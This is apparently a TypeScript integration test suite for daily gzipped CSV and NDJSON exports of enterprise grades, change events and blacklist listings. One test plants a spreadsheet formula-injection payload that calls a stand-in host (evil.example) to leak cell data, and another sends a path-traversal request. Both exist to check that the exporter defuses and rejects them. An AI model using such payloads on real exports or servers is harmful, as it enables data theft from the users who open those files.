import { getQueueToken } from '@nestjs/bull';
import type { Queue } from 'bull';
import { createHash } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { QueueName } from '../../../src/jobs/queues';
import { ExportsService } from '../../../src/sharing/exports/exports.service';
import { TestClock } from '../../helpers/clock';
import { CODES, createEnterprise, createKey } from '../../helpers/fixtures';
import { TestApp } from '../../helpers/test-app';
import { until } from '../../helpers/until';

const FILES = [
  'changes.csv.gz',
  'changes.ndjson.gz',
  'grades.csv.gz',
  'grades.ndjson.gz',
  'blacklist.csv.gz',
  'blacklist.ndjson.gz',
];

describe('daily exports', () => {
  let t: TestApp;
  let dir: string;
  let bank: string;
  let tax: string;
  let inDay: { seq: number; id: string }[];
  const clock = new TestClock(new Date('2026-03-03T02:00:00Z')); // Tuesday 10:00 in Beijing
  const as = (key: string) => ({ 'x-api-key': key });
  const get = (url: string, key = bank) => t.request({ method: 'GET', url: `/api/v1/exports${url}`, headers: as(key) });

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'qc-exports-'));
    t = await TestApp.start(__filename, { EXPORT_DIR: dir }, { clock });
    const admin = await t.loginAdmin();
    bank = (await createKey(t, admin, ['feed:read'])).key;
    tax = (await createKey(t, admin, ['feed:read'], { name: '温州市财政局', kind: 'tax', departmentCode: 'LTAX' })).key;
    await createEnterprise(t, admin, CODES.wenzhouLike);
    await createEnterprise(t, admin, CODES.beijing, { name: '龙湾测试鞋业有限公司', districtCode: '330303' });
  });
  afterAll(async () => {
    await t.close();
    await rm(dir, { recursive: true, force: true });
  });

  it('is scheduled daily at 00:30 Beijing time, and a starting worker writes yesterday when it is missing', async () => {
    const queue = t.app.get<Queue>(getQueueToken(QueueName.Exports));
    expect(await queue.getRepeatableJobs()).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ id: 'daily-exports', cron: '30 0 * * *', tz: 'Asia/Shanghai' }),
      ]),
    );
    await until('the starting worker to write yesterday', async () => (await get('')).json().length > 0, 15_000);
    expect((await get('')).json()).toEqual([{ date: '2026-03-02', generatedAt: expect.any(String), files: FILES }]);
  });

  it("writes a day's changes and the grades and listings in force at its end, gzipped, with SHA-256 sums", async () => {
    const ids = await t.sql<{ id: string; uscc: string }>(`SELECT id::text, uscc FROM enterprises ORDER BY uscc`);
    const idOf = (uscc: string) => ids.find((e) => e.uscc === uscc)!.id;
    const [{ id: adminId }] = await t.sql<{ id: string }>(`SELECT id FROM users WHERE username = 'admin'`);
    await t.sql(
      `INSERT INTO classification_history (enterprise_id, grade, score, rule_set_version, factors, valid_from, valid_to)
       VALUES ($1, 'B', 80, 1, '[]', '2026-01-01T00:00:00+08:00', '2026-03-02T12:00:00+08:00'),
              ($1, 'D', 40, 1, '[]', '2026-03-02T12:00:00+08:00', NULL),
              ($2, 'A', 95, 1, '[]', '2026-01-01T00:00:00+08:00', NULL)`,
      [idOf(CODES.wenzhouLike), idOf(CODES.beijing)],
    );
    const [entry] = await t.sql<{ id: string }>(
      `INSERT INTO blacklist_entries (enterprise_id, district_code, reason_code, legal_basis, facts, period_months,
         status, department_code, proposed_by, proposed_at, noticed_at, objection_deadline, published_at,
         earliest_repair_date, expires_at)
       VALUES ($1, '330302', 'substandard_products', '第九条', '三次抽查不合格', 36, 'published', 'AMR', $2,
         '2026-01-05T10:00:00+08:00', '2026-01-06T10:00:00+08:00', '2026-01-20T00:00:00+08:00',
         '2026-03-02T12:00:00+08:00', '2027-03-02', '2029-03-02T00:00:00+08:00')
       RETURNING id::text`,
      [idOf(CODES.wenzhouLike), adminId],
    );
    // Two events on 2 March in Beijing, one just before it and one just after; the day's two are
    // numbered 9999 and 10000, which sort the other way round as text.
    await t.sql(`SELECT setval(pg_get_serial_sequence('change_events', 'seq'), 9997)`);
    inDay = await t
      .sql<{ seq: number; id: string }>(
        `INSERT INTO change_events (type, uscc, occurred_at, data) VALUES
         ('classification.changed', $1, '2026-03-01T23:59:59+08:00', '{"from":null,"to":"B"}'),
         ('blacklist.published', $1, '2026-03-02T12:00:00+08:00', $2),
         ('classification.changed', $1, '2026-03-02T12:00:00+08:00', '{"from":"B","to":"D","note":"含,逗号与\\"引号\\""}'),
         ('classification.changed', $3, '2026-03-03T00:00:00+08:00', '{"from":null,"to":"A"}')
       RETURNING seq::int, id::text`,
        [CODES.wenzhouLike, JSON.stringify({ entryId: entry.id }), CODES.beijing],
      )
      .then((rows) => rows.slice(1, 3));
    expect(inDay.map((e) => e.seq)).toEqual([9999, 10000]);

    const exports = t.app.get(ExportsService);
    await expect(exports.writeDay('2026-03-03')).rejects.toThrow('not over');
    expect(await exports.writeDay('2026-03-02')).toEqual({ date: '2026-03-02', departments: ['LTAX', 'PBOC', 'STAX'] });

    const listed = await get('');
    expect(listed.statusCode).toBe(200);
    expect(listed.json()).toEqual([{ date: '2026-03-02', generatedAt: '2026-03-03T02:00:00.000Z', files: FILES }]);
    const manifest = (await get('/2026-03-02')).json();
    expect(manifest).toMatchObject({
      department: 'PBOC',
      date: '2026-03-02',
      timezone: 'Asia/Shanghai',
      from: '2026-03-01T16:00:00.000Z',
      to: '2026-03-02T16:00:00.000Z',
    });
    expect(manifest.files.map((f: { name: string }) => f.name)).toEqual(FILES);

    const content: Record<string, string> = {};
    for (const file of manifest.files as { name: string; rows: number; bytes: number; sha256: string }[]) {
      const res = await get(`/2026-03-02/${file.name}`);
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('application/gzip');
      expect(res.rawPayload.length).toBe(file.bytes);
      expect(createHash('sha256').update(res.rawPayload).digest('hex')).toBe(file.sha256);
      content[file.name] = gunzipSync(res.rawPayload).toString('utf8');
    }
    const rowsOf = (name: string) => manifest.files.find((f: { name: string }) => f.name === name).rows;

    const changes = parse(content['changes.csv.gz'], { columns: true }) as Record<string, string>[];
    expect(changes.map((c) => [Number(c.seq), c.id, c.type, c.uscc])).toEqual([
      [inDay[0].seq, inDay[0].id, 'blacklist.published', CODES.wenzhouLike],
      [inDay[1].seq, inDay[1].id, 'classification.changed', CODES.wenzhouLike],
    ]);
    expect(changes[1].occurredAt).toBe('2026-03-02T04:00:00.000Z');
    expect(JSON.parse(changes[1].data)).toEqual({ from: 'B', to: 'D', note: '含,逗号与"引号"' });
    const ndjson = content['changes.ndjson.gz']
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(ndjson).toEqual([
      expect.objectContaining({ seq: inDay[0].seq, type: 'blacklist.published', data: { entryId: entry.id } }),
      expect.objectContaining({ seq: inDay[1].seq, data: { from: 'B', to: 'D', note: '含,逗号与"引号"' } }),
    ]);
    expect(rowsOf('changes.csv.gz')).toBe(2);

    const grades = parse(content['grades.csv.gz'], { columns: true }) as Record<string, string>[];
    expect(grades.map((g) => [g.uscc, g.grade, g.score, g.ruleSetVersion])).toEqual(
      expect.arrayContaining([
        [CODES.wenzhouLike, 'D', '40', '1'],
        [CODES.beijing, 'A', '95', '1'],
      ]),
    );
    expect(grades).toHaveLength(2);
    expect(
      content['grades.ndjson.gz']
        .trimEnd()
        .split('\n')
        .map((l) => JSON.parse(l)),
    ).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ uscc: CODES.beijing, name: '龙湾测试鞋业有限公司', grade: 'A', score: 95 }),
      ]),
    );
    const listings = content['blacklist.ndjson.gz']
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(listings).toEqual([
      {
        id: entry.id,
        uscc: CODES.wenzhouLike,
        name: '温州市鹿城阀门有限公司',
        reasonCode: 'substandard_products',
        publishedAt: '2026-03-02T04:00:00.000Z',
        expiresAt: '2029-03-01T16:00:00.000Z',
        // Ends at Beijing midnight of 2029-03-02: listed until the day before, as every page says.
        listedUntil: '2029-03-01',
      },
    ]);
    expect(content['blacklist.csv.gz'].split('\n')[0]).toBe(
      'id,uscc,name,reasonCode,publishedAt,expiresAt,listedUntil',
    );

    // Writing the day again gives the same files.
    clock.set('2026-03-03T03:00:00Z');
    await exports.writeDay('2026-03-02');
    const again = (await get('/2026-03-02')).json();
    expect(again.generatedAt).toBe('2026-03-03T03:00:00.000Z');
    expect(again.files).toEqual(manifest.files);
    // Each department reads its own copy.
    expect((await get('/2026-03-02', tax)).json()).toMatchObject({ department: 'LTAX', files: manifest.files });
  });

  it("defuses formulas in the CSV files: a renamed enterprise cannot run in a bank's spreadsheet", async () => {
    const evil = '=HYPERLINK("http://evil.example/?leak="&B2,"x")';
    const admin = await t.loginAdmin();
    const renamed = await t.request({
      method: 'PATCH',
      url: `/api/v1/enterprises/${CODES.beijing}`,
      token: admin,
      body: { name: evil },
    });
    expect(renamed.statusCode).toBe(200);
    await t.app.get(ExportsService).writeDay('2026-03-02');
    const res = await get('/2026-03-02/grades.csv.gz');
    const grades = parse(gunzipSync(res.rawPayload).toString('utf8'), { columns: true }) as Record<string, string>[];
    // The leading ' makes a spreadsheet show the cell as text; the NDJSON keeps the name as it is.
    expect(grades.find((g) => g.uscc === CODES.beijing)).toMatchObject({ name: `'${evil}`, score: '95' });
    const ndjson = gunzipSync((await get('/2026-03-02/grades.ndjson.gz')).rawPayload).toString('utf8');
    expect(ndjson).toContain(JSON.stringify(evil));
  });

  it('serves only the files a manifest lists, to institution keys', async () => {
    expect((await get('/2026-03-01')).statusCode).toBe(404);
    expect((await get('/not-a-date')).statusCode).toBe(404);
    expect((await get('/2026-03-02/manifest.json')).statusCode).toBe(404);
    expect((await get('/2026-03-02/..%2F..%2FPBOC%2F2026-03-02%2Fchanges.csv.gz')).statusCode).toBe(404);
    const admin = await t.loginAdmin();
    expect((await t.request({ method: 'GET', url: '/api/v1/exports', token: admin })).statusCode).toBe(403);
  });
});
